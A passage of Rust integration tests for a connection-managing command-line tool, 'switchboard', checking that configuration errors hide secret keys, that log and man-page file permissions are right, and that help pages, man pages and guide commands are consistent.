fn a_line_of_the_configuration_with_a_key_is_told_without_it() {
    let home = Home::new();
    let folder = home.path().join(".config/switchboard");
    fs::create_dir_all(&folder).unwrap();
    for folder in [home.path().join(".config"), folder.clone()] {
        fs::set_permissions(folder, fs::Permissions::from_mode(0o700)).unwrap();
    }
    let file = folder.join("switchboard.toml");
    let text = format!(
        "version = 1\n[[connection]]\nname = \"a\"\nservice = \"http\"\nurl = \"http://127.0.0.1:1\"\nkey = \"env:{KEY}\"\n"
    );
    fs::write(&file, text).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    let list = home.run(&["connection", "list"]);
    assert_eq!(list.code, 3, "{list:?}");
    assert!(
        list.err.contains("line 6") && !list.err.contains(KEY),
        "{list:?}"
    );
}

#[test]
fn what_is_done_is_logged_beside_the_state() {
    let home = Home::new();
    let log = home.path().join(".local/state/switchboard/switchboard.log");
    home.run(&["probe", "--url", "http://127.0.0.1:1"]);
    assert!(!log.exists(), "nobody asked for it");
    home.run(&["-v", "probe", "--url", "http://127.0.0.1:1"]);
    let text = fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("probed") && text.contains("refused"),
        "{text}"
    );
    assert_eq!(
        fs::metadata(&log).unwrap().permissions().mode() & 0o777,
        0o600
    );
}

#[test]
fn guides_and_pages_come_from_one_source() {
    let home = Home::new();
    let list = home.run(&["help"]);
    assert!(list.out.contains("first-connection"), "{list:?}");
    let guide = home.run(&["help", "blesta"]);
    assert!(guide.out.contains("API user"), "{guide:?}");
    assert!(
        home.run(&["help", "connection", "import"])
            .out
            .contains("--dry-run")
    );
    let unknown = home.run(&["help", "no\u{1b}such"]);
    assert_eq!(unknown.code, 3);
    assert!(unknown.err.contains("first-connection"), "{unknown:?}");
    let page = home.run(&["man", "blesta"]);
    assert!(
        page.out.contains("API user") && page.out.contains(".SH NAME"),
        "{page:?}"
    );
    for name in ["switchboard-blesta", "switchboard-help", "switchboard help"] {
        let own = home.run(&["man", name]);
        assert!(own.code == 0 && own.out.contains(".SH NAME"), "{own:?}");
    }
    let folder = home.path().join("man");
    let all = home.run(&["man", "--dir", folder.to_str().unwrap()]);
    assert_eq!(all.code, 0, "{all:?}");
    assert!(folder.join("man1/switchboard-connection-import.1").exists());
    assert!(folder.join("man7/switchboard-lock-out.7").exists());
    // Everybody may read them, as far as the umask lets them.
    let plain = home.path().join("plain");
    fs::create_dir(&plain).unwrap();
    fs::write(plain.join("file"), "").unwrap();
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode();
    assert_eq!(mode(&folder.join("man1")), mode(&plain));
    let page = folder.join("man1/switchboard.1");
    assert_eq!(mode(&page), mode(&plain.join("file")));
}

#[test]
fn doctor_says_where_attempts_cannot_be_written_down() {
    let home = Home::new();
    let file = home.file("in-the-way", "");
    let state = file.join("state");
    let variables = [("SWITCHBOARD_STATE_DIR", state.to_str().unwrap())];
    let done = switchboard(home.path(), &["doctor", "--strict"], &variables, "");
    assert_eq!(done.code, 1, "{done:?}");
    assert!(done.out.contains("no key can be sent"), "{done:?}");
}

#[test]
fn man_reads_every_page_without_a_warning() {
    if !is_here("/usr/bin/groff") {
        return;
    }
    let home = Home::new();
    let folder = home.path().join("man");
    home.run(&["man", "--dir", folder.to_str().unwrap()]);
    for section in ["man1", "man7"] {
        for entry in fs::read_dir(folder.join(section)).unwrap() {
            let path = entry.unwrap().path();
            let done = Command::new("groff")
                .args(["-man", "-Tutf8", "-ww", "-z"])
                .arg(&path)
                .stdout(Stdio::null())
                .output()
                .unwrap();
            let talk = String::from_utf8_lossy(&done.stderr);
            assert_eq!(talk, "", "{path:?}");
        }
    }
}

#[test]
fn everything_that_guides_call_a_command_is_one() {
    let mut found = 0;
    for entry in fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/guide")).unwrap() {
        let path = entry.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        for words in commands_in(&text) {
            let home = Home::new();
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            let mut asked: Vec<&str> = words.clone();
            asked.push("--help");
            let done = home.run(&asked);
            assert_eq!(done.code, 0, "{path:?}: {words:?}: {}", done.err);
            found += 1;
        }
    }
    assert!(found > 15, "only {found} commands were found");
}

/// Every `switchboard …` in the samples of a guide: its words up to the first pipe.
fn commands_in(text: &str) -> Vec<Vec<String>> {
    let joined = text.replace("\\\n", " ");
    let mut found = Vec::new();
    for line in joined.lines().filter_map(|line| line.strip_prefix("    ")) {
        let Some(at) = line.find("switchboard ") else {
            continue;
        };
        let rest = &line[at + "switchboard ".len()..];
        let end = rest.find(['|', '>', ')', ';']).unwrap_or(rest.len());
        let words: Vec<String> = rest[..end]
            .split_whitespace()
            .map(|word| word.trim_matches('"').replace('…', "x"))
            .collect();
        found.push(words);
    }
    found
}
